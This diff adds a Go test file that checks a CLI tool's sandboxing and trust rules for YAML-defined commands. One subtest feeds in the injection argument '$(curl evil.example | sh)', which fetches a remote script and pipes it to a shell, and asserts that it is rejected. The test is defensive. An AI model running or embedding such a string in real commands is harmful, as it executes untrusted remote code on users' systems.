@@ -0,0 +1,100 @@
+package cli
+
+import (
+	"os"
+	"testing"
+
+	"github.com/glide-cli/glide/v3/internal/config"
+	"github.com/glide-cli/glide/v3/internal/sandbox"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestYAMLCommandSandbox(t *testing.T) {
+	dir := t.TempDir()
+
+	var ran []sandbox.Options
+	var scripts []string
+	original := runSandboxCommand
+	runSandboxCommand = func(opts sandbox.Options, script string) error {
+		ran = append(ran, opts)
+		scripts = append(scripts, script)
+		return nil
+	}
+	t.Cleanup(func() {
+		runSandboxCommand = original
+		ConfigureSandbox(nil)
+	})
+
+	run := func(cmd *config.Command, args ...string) error {
+		registry := NewRegistry()
+		require.NoError(t, registry.AddYAMLCommand("lint", cmd))
+		factory, ok := registry.Get("lint")
+		require.True(t, ok)
+		c := factory()
+		return c.RunE(c, args)
+	}
+	cmd := &config.Command{Cmd: "make lint $1", Dir: dir}
+
+	t.Run("untrusted command is refused without the sandbox", func(t *testing.T) {
+		stubTrust(t, false, false)
+		t.Setenv(SandboxEnv, "")
+		ConfigureSandbox(nil)
+
+		assert.Error(t, run(cmd))
+		assert.Empty(t, ran)
+	})
+
+	t.Run("untrusted command runs in the configured sandbox", func(t *testing.T) {
+		stubTrust(t, false, false)
+		t.Setenv(SandboxEnv, "")
+		ConfigureSandbox(&config.Config{Defaults: config.DefaultsConfig{Sandbox: config.SandboxDefaults{
+			Untrusted: true,
+			Image:     "node:22-alpine",
+			Env:       []string{"CI"},
+		}}})
+
+		require.NoError(t, run(cmd, "api"))
+		require.Len(t, ran, 1)
+		assert.Equal(t, dir, ran[0].ProjectDir)
+		assert.Equal(t, "node:22-alpine", ran[0].Image)
+		assert.Equal(t, []string{"CI"}, ran[0].Env)
+		cwd, _ := os.Getwd()
+		assert.Equal(t, cwd, ran[0].WorkDir)
+		assert.Equal(t, []string{"make lint api"}, scripts)
+	})
+
+	t.Run("GLIDE_SANDBOX overrides the configuration", func(t *testing.T) {
+		stubTrust(t, false, false)
+		ran = nil
+		ConfigureSandbox(&config.Config{Defaults: config.DefaultsConfig{Sandbox: config.SandboxDefaults{Untrusted: true}}})
+
+		t.Setenv(SandboxEnv, "0")
+		assert.Error(t, run(cmd))
+		assert.Empty(t, ran)
+
+		ConfigureSandbox(nil)
+		t.Setenv(SandboxEnv, "1")
+		require.NoError(t, run(cmd))
+		assert.Len(t, ran, 1)
+	})
+
+	t.Run("trusted command runs normally", func(t *testing.T) {
+		store, _ := stubTrust(t, false, false)
+		require.NoError(t, store.Set(dir, true))
+		t.Setenv(SandboxEnv, "1")
+		ran = nil
+
+		require.NoError(t, run(&config.Command{Cmd: "true", Dir: dir}))
+		assert.Empty(t, ran)
+	})
+
+	t.Run("sandboxed arguments are validated", func(t *testing.T) {
+		stubTrust(t, false, false)
+		t.Setenv(SandboxEnv, "1")
+		ran = nil
+
+		assert.Error(t, run(cmd, "$(curl evil.example | sh)"))
+		assert.Empty(t, ran)
+	})
+}